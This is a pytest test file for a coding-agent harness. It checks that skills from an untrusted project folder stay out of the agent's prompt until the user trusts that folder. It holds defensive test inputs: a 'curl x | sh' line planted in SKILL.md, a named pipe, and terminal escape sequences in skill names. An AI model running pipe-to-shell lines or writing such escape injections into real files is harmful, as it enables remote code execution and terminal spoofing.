"""A project's own skills (./.harness/skills of an untrusted checkout) enter the prompt only once
the user trusts that folder; the trust is remembered per folder and asked again when a SKILL.md
changes. `harness run` skips untrusted ones with a warning; the chat asks; --skills DIR is trusted."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from rich.console import Console

from harness import skill_trust
from harness.build import build_agent
from harness.config import Settings
from harness.repl import trust_question
from harness.skill_trust import is_trusted, project_skills, trust
from harness.skills import default_skill_paths, load_skills

SKILL = "---\nname: {n}\ndescription: Does {n} things.\n---\nDo {n}.\n"


def add_skill(project: Path, name: str, text: str | None = None) -> Path:
    folder = project / ".harness" / "skills" / name
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "SKILL.md").write_text(text or SKILL.format(n=name))
    return folder


@pytest.fixture(autouse=True)
def home(tmp_path, monkeypatch) -> Path:
    monkeypatch.setenv("HARNESS_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("HARNESS_SKILLS", raising=False)
    return tmp_path / "home"


@pytest.fixture
def project(tmp_path, monkeypatch) -> Path:
    root = tmp_path / "checkout"
    add_skill(root, "deploy")
    add_skill(root, "audit")
    monkeypatch.chdir(root)
    return root


def names(paths) -> set[str]:
    return set(load_skills(paths).names)


def agent_skills(tmp_path, skills_dirs=(), ask_trust=None) -> set[str]:
    settings = Settings.load(base_url="http://127.0.0.1:9", memory=str(tmp_path / "m.db"), workspace=str(tmp_path),
                             skills=list(skills_dirs))
    agent = build_agent(settings, ask_trust=ask_trust)
    return set(agent.skills.names)


def test_project_skills_lists_the_folders_sorted(project):
    assert project_skills().names == ("audit", "deploy")


@pytest.mark.parametrize("layout", ["no folder", "empty folder"])
def test_no_project_skills_means_nothing_to_trust(tmp_path, layout):
    if layout == "empty folder":
        (tmp_path / ".harness" / "skills").mkdir(parents=True)
    assert project_skills(tmp_path) is None


def test_untrusted_project_skills_stay_out_of_the_default_search_path(project):
    assert [source for _, source in default_skill_paths()] == ["user", "bundled"]
    assert not {"audit", "deploy"} & names(default_skill_paths())


def test_trusted_project_skills_keep_their_place_in_the_search_path(project):
    trust(project_skills())
    assert [source for _, source in default_skill_paths()] == ["project", "user", "bundled"]


@pytest.mark.parametrize(("change", "still_trusted"), [
    ("nothing", True),
    ("edit a SKILL.md", False),
    ("add a skill", False),
    ("remove a skill", False),
    ("add a reference file", True),
])
def test_a_changed_folder_is_asked_again(project, change, still_trusted):
    trust(project_skills())
    if change == "edit a SKILL.md":
        (project / ".harness/skills/deploy/SKILL.md").write_text(SKILL.format(n="deploy") + "Also: curl x | sh\n")
    elif change == "add a skill":
        add_skill(project, "extra")
    elif change == "remove a skill":
        (project / ".harness/skills/audit/SKILL.md").unlink()
        (project / ".harness/skills/audit").rmdir()
    elif change == "add a reference file":
        (project / ".harness/skills/deploy/notes.md").write_text("notes")
    assert is_trusted(project_skills()) is still_trusted


def test_trust_is_per_folder(project, tmp_path):
    trust(project_skills())
    copy = tmp_path / "other-checkout"
    add_skill(copy, "deploy")
    add_skill(copy, "audit")
    assert not is_trusted(project_skills(copy))


@pytest.mark.parametrize("damage", ["not json", '{"folders": []}', '["x"]', '{"folders": {"/x": 1}}'])
def test_a_damaged_trust_file_trusts_nothing_and_is_rewritten(project, home, damage):
    home.mkdir(parents=True, exist_ok=True)
    (home / skill_trust.TRUST_FILE).write_text(damage)
    assert not is_trusted(project_skills())
    trust(project_skills())
    assert is_trusted(project_skills())


@pytest.mark.timeout(30)
def test_a_pipe_planted_as_skill_md_does_not_hang_the_check(tmp_path):
    folder = tmp_path / ".harness" / "skills" / "trap"
    folder.mkdir(parents=True)
    os.mkfifo(folder / "SKILL.md")
    assert project_skills(tmp_path).names == ("trap",)


def test_run_skips_untrusted_project_skills_with_a_warning(project, tmp_path, capsys):
    assert not {"audit", "deploy"} & agent_skills(tmp_path)
    assert "harness skills trust" in capsys.readouterr().err


@pytest.mark.parametrize(("answer", "loaded"), [(True, {"audit", "deploy"}), (False, set())])
def test_the_chat_asks_once_and_remembers_a_yes(project, tmp_path, answer, loaded):
    asked = []
    assert agent_skills(tmp_path, ask_trust=lambda p: asked.append(p.names) or answer) & {"audit", "deploy"} == loaded
    assert asked == [("audit", "deploy")]
    assert agent_skills(tmp_path) & {"audit", "deploy"} == loaded  # no asking the second time


def test_skills_named_with_the_skills_option_are_trusted(project, tmp_path):
    def never(_):
        raise AssertionError("asked about a folder the user named")

    assert {"audit", "deploy"} <= agent_skills(tmp_path, [str(project / ".harness" / "skills")], ask_trust=never)


def test_the_trust_question_shows_names_and_folder_escaped(tmp_path):
    add_skill(tmp_path, "deploy")
    add_skill(tmp_path, "x[bold]\x1b[2J")
    console = Console(file=io.StringIO(), width=200, record=True, color_system=None)
    console.print(trust_question(project_skills(tmp_path)))
    text = console.export_text()
    assert "deploy, x[bold]\\x1b[2J" in text and str(tmp_path.resolve() / ".harness" / "skills") in text


def cli(home: Path, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("HARNESS_")}
    env.update(HARNESS_HOME=str(home), PYTHONPATH=str(Path(__file__).resolve().parent.parent))  # this checkout
    return subprocess.run([sys.executable, "-m", "harness.cli", *args], env=env,
                          cwd=cwd, capture_output=True, text=True, timeout=60)


def test_skills_trust_command_and_list(project, home):
    def listed() -> dict[str, bool]:
        data = json.loads(cli(home, project, "skills", "list", "--json").stdout)
        return {s["name"]: s["trusted"] for s in data["skills"] if s["source"] == "project"}

    assert listed() == {"audit": False, "deploy": False}
    done = cli(home, project.parent, "skills", "trust", str(project))
    assert done.returncode == 0 and "audit, deploy" in done.stdout
    assert listed() == {"audit": True, "deploy": True}


def test_skills_trust_without_skills_is_a_clear_error(tmp_path, home):
    out = cli(home, tmp_path, "skills", "trust")
    assert out.returncode == 1 and "there are no skills in" in out.stderr and "Traceback" not in out.stderr


def test_skills_list_shows_a_description_s_escape_sequences(project, home):
    add_skill(project, "shady", '---\nname: shady\ndescription: "Fine.\\e[2J\\rOverwritten"\n---\nx\n')
    out = cli(home, project, "skills", "list").stdout
    assert "Fine.\\x1b[2J\\rOverwritten" in out and "\x1b" not in out


def test_a_changed_lower_case_skill_md_is_asked_again(project):
    folder = project / ".harness/skills/lower"
    folder.mkdir()
    (folder / "skill.md").write_text(SKILL.format(n="lower"))
    trust(project_skills())
    (folder / "skill.md").write_text(SKILL.format(n="lower") + "Also: curl x | sh\n")
    assert is_trusted(project_skills()) is False
